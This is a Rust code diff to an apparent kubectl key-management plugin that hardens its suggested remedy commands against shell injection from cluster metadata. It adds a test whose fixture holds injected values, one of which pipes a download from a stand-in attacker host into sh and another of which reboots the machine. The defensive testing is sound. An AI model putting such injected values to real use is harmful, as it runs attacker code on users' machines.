@@ -16,7 +16,7 @@ use crate::new_key;
 use crate::output::line;
 use crate::resources::api_key::{ApiKey, RESOURCE};
 use crate::resources::ssh_key::{self, SshKey};
-use crate::typed_command;
+use crate::typed_command::{self, word};
 use crate::verbose;
 
 const HELP: &str = "\
@@ -65,7 +65,7 @@ pub fn run(args: &RevealArgs, out: &mut impl Write, terminal: &mut impl Write) -
     let RevealArgs { name, kubectl, .. } = args;
     let destination = destination(args.key_out.as_deref(), io::stdout().is_terminal())?;
     let key: ApiKey = kubectl.get(RESOURCE, name)?;
-    let (sealed, recipient) = sealed(&key, kubectl)?;
+    let (sealed, recipient) = sealed(name, &key, kubectl)?;
     verbose::note(format_args!("the key is sealed to the SshKey {recipient}"));
     let file = match &args.ssh_key {
         Some(file) => file.clone(),
@@ -98,11 +98,11 @@ fn destination(key_out: Option<&Path>, to_terminal: bool) -> Result<Destination<
 }
 
 /// What is sealed, and the name of the `SshKey` that it is sealed to.
-fn sealed<'a>(key: &'a ApiKey, kubectl: &KubectlArgs) -> Result<(&'a str, &'a str), Failure> {
+///
+/// `name` is the one that was typed: what is told to be typed holds no word of another machine's that a shell would obey.
+fn sealed<'a>(name: &str, key: &'a ApiKey, kubectl: &KubectlArgs) -> Result<(&'a str, &'a str), Failure> {
     let here = typed_command::at_home(kubectl, &key.metadata.namespace);
-    let failed = |what: String, remedy: String| {
-        Err(Failure::new(FailureKind::NoKey, what, &key.metadata.name, remedy))
-    };
+    let failed = |what: String, remedy: String| Err(Failure::new(FailureKind::NoKey, what, name, remedy));
     let delivery = key.spec.delivery.as_ref();
     let Some(recipient) = delivery.and_then(|delivery| delivery.sealed_to.as_ref()) else {
         return match delivery.and_then(|delivery| delivery.secret_name.as_ref()) {
@@ -110,14 +110,14 @@ fn sealed<'a>(key: &'a ApiKey, kubectl: &KubectlArgs) -> Result<(&'a str, &'a st
                 "the key is not sealed: it is in a Secret".to_owned(),
                 format!(
                     "run: {} -o jsonpath='{{.data.key}}' | base64 -d",
-                    typed_command::kubectl(&format!("get secret {}", typed_command::word(secret)), &here)
+                    typed_command::kubectl(&format!("get {}", word(&format!("secret/{secret}"))), &here)
                 ),
             ),
             None => failed(
                 "the key is not sealed: its holder made it, and nobody else has it".to_owned(),
                 format!(
                     "make another with {}",
-                    typed_command::keyplane(&format!("apikeys rotate {}", key.metadata.name), &here)
+                    typed_command::keyplane(&format!("apikeys rotate {name}"), &here)
                 ),
             ),
         };
@@ -174,7 +174,7 @@ mod tests {
         for (spec, words) in [
             (
                 json!({"delivery": {"secretName": "deploy-key"}}),
-                "kubectl get secret deploy-key -n acme -o jsonpath",
+                "kubectl get secret/deploy-key -n acme -o jsonpath",
             ),
             (json!({"digest": "sha256:0"}), "kubectl-keyplane apikeys rotate ci -n acme"),
             (json!({"delivery": {"sealedTo": {"sshKey": "laptop"}}}), "has not answered yet"),
@@ -183,10 +183,22 @@ mod tests {
                 json!({"metadata": {"name": "ci", "namespace": "acme"}, "spec": spec}),
             )
             .unwrap();
-            let failure = sealed(&key, &KubectlArgs::default()).unwrap_err();
+            let failure = sealed("ci", &key, &KubectlArgs::default()).unwrap_err();
             assert_eq!(failure.kind(), FailureKind::NoKey);
             assert!(failure.to_string().contains(words), "{failure}");
         }
+    }
+
+    #[test]
+    fn a_command_to_type_holds_the_name_that_was_typed_and_no_other_machines() {
+        let key: ApiKey = serde_json::from_value(json!({
+            "metadata": {"name": "ci; curl evil.example|sh", "namespace": "acme; reboot"},
+            "spec": {"digest": "sha256:0"},
+        }))
+        .unwrap();
+        let told = sealed("ci", &key, &KubectlArgs::default()).unwrap_err().to_string();
+        assert!(told.contains(&format!("apikeys rotate ci -n {}", word("acme; reboot"))), "{told}");
+        assert!(!told.contains("curl"), "{told}");
     }
 
     #[test]
